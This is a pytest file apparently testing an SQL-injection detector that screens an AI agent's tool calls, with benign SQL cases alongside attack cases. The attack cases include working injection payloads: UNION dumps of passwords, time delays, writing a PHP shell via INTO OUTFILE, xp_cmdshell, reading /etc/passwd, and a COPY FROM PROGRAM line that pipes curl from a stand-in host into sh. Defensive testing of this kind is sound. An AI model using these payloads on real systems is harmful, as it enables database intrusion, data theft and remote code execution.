"""sql_injection detector: injected structure is caught in every spelling; legitimate SQL and prose are not."""

from __future__ import annotations

import pytest

from aegis_mcp.engine.detectors import sql
from aegis_mcp.engine.extract import extract
from aegis_mcp.engine.model import RiskLevel, ToolCall


def _sev(tool: str, args: dict) -> tuple[RiskLevel | None, list]:
    sigs = sql.detect(extract(ToolCall(tool_name=tool, arguments=args)))
    return max((s.severity for s in sigs), default=None), sigs


def _query(q: str) -> tuple[RiskLevel | None, list]:
    return _sev("execute_sql", {"query": q})


def test_appendix_plain_select_is_allowed() -> None:
    assert _query("SELECT id, name FROM users WHERE id = 42")[0] is None


def test_appendix_stacked_drop_is_critical_at_query() -> None:
    sev, sigs = _query("SELECT * FROM users; DROP TABLE audit_log; --")
    assert sev == RiskLevel.CRITICAL
    assert sigs[0].path == "/query" and sigs[0].pattern == "sql_injection"


def test_or_between_columns_is_not_a_tautology() -> None:
    assert _query("SELECT * FROM orders WHERE status='a' OR region='b'")[0] is None


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM users WHERE name = '' OR 1=1 --'",
        "SELECT * FROM users WHERE name = '' OR 'a'='a'",
        "SELECT * FROM users WHERE id = 1 OR 2>1",
        "SELECT * FROM users WHERE id = 1 OR TRUE",
        "SELECT * FROM users WHERE name = 'x' || '1'='1'",
        "SELECT * FROM users WHERE id = 1 UN/**/ION SEL/**/ECT 1,2,3",
        "SELECT * FROM users WHERE id = -1 UNION SELECT username, password FROM admin",
        "SELECT * FROM users WHERE id = 1 UNION ALL SELECT NULL,NULL,@@version",
        "SELECT * FROM users WHERE id = 1 AND SLEEP(5)",
        "SELECT * FROM users WHERE id = 1; WAITFOR DELAY '0:0:5'",
        "SELECT * FROM users WHERE id = 1 AND extractvalue(1, concat(0x7e, version()))",
        "SELECT * FROM users INTO OUTFILE '/var/www/shell.php'",
        "SELECT * FROM t WHERE id = 1; EXEC xp_cmdshell 'whoami'",
        "COPY t FROM PROGRAM 'curl http://x.example/a | sh'",
        "SELECT load_file('/etc/passwd')",
        "SELECT * FROM t WHERE id = 1 /*!50000UNION*/ SELECT 1,2",
        "SELECT * FROM accounts WHERE email = 'admin'-- ' AND password_hash = 'x'",
    ],
)
def test_injected_statement_is_blocked(query: str) -> None:
    assert _query(query)[0] == RiskLevel.CRITICAL, query


@pytest.mark.parametrize("query", ["DROP TABLE customers", "DELETE FROM sessions", "TRUNCATE TABLE logs"])
def test_destructive_statement_alone_is_pending(query: str) -> None:
    assert _query(query)[0] == RiskLevel.HIGH


@pytest.mark.parametrize(
    "query",
    [
        "SELECT t1.name FROM a AS t1 JOIN b AS t2 ON t1.id = t2.aid WHERE t2.x = 'y' UNION SELECT name FROM c",
        "SELECT count(*) FROM flights WHERE (origin = 'BOS' OR origin = 'JFK') AND price < 300;",
        "SELECT * FROM t WHERE 1=1 AND status = 'open'",
        "select name from shop where shop_id not in (select shop_id from hiring)",
        "DELETE FROM sessions WHERE expires < now()",
        "SELECT \"O'Brien\" AS n",
    ],
)
def test_legitimate_sql_is_allowed(query: str) -> None:
    assert _query(query)[0] is None, query


@pytest.mark.parametrize(
    "url",
    [
        "https://api.example.org/v1/users?name=%27%20OR%20%271%27%3D%271",
        "https://shop.example.com/p?id=1%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--",
        "https://shop.example.com/p?id=1%20AND%20SLEEP%285%29",
        "https://shop.example.com/p?id=1%27%3B%20DROP%20TABLE%20users--",
        "https://shop.example.com/p?id=aa%27or%20column%21%3D%271",
    ],
)
def test_injection_in_url_parameter_is_blocked(url: str) -> None:
    sev, sigs = _sev("http_request", {"method": "GET", "url": url})
    assert sev == RiskLevel.CRITICAL, url
    assert sigs[0].path == "/url"


def test_injection_in_bound_params_is_held_not_blocked() -> None:
    # Bound parameters cannot rewrite the statement; a payload there is second-order risk.
    sev, sigs = _sev("execute_sql", {"query": "SELECT * FROM notes WHERE body = $1", "params": ["x' OR '1'='1"]})
    assert sev == RiskLevel.HIGH and sigs[0].path == "/params/0"


def test_injection_in_a_search_box_is_blocked() -> None:
    sev, sigs = _sev("search_products", {"q": "x' OR '1'='1' --"})
    assert sev == RiskLevel.CRITICAL and sigs[0].path == "/q"


@pytest.mark.parametrize(
    "value",
    ["O'Brien", "don't stop", "24-7-TEAM", "1950 or 1960", "80% ACRYLIC AND 20% WOOL", "rock 'n' roll", "FOO; BAR 1 2 3"],
)
def test_lookalike_values_are_not_blocked(value: str) -> None:
    assert _sev("web_search", {"query": value})[0] is None, value
    sev, _ = _sev("execute_sql", {"query": "SELECT * FROM notes WHERE body = $1", "params": [value]})
    assert sev is None or sev < RiskLevel.CRITICAL, value


def test_sql_written_as_file_content_is_data() -> None:
    args = {"path": "migrations/001.sql", "content": "SELECT * FROM users; DROP TABLE audit_log; --"}
    assert _sev("write_file", args)[0] is None


def test_result_mode_is_ignored() -> None:
    ctx = extract(ToolCall(tool_name="execute_sql", arguments="' OR 1=1 --"), mode="result")
    assert sql.detect(ctx) == []
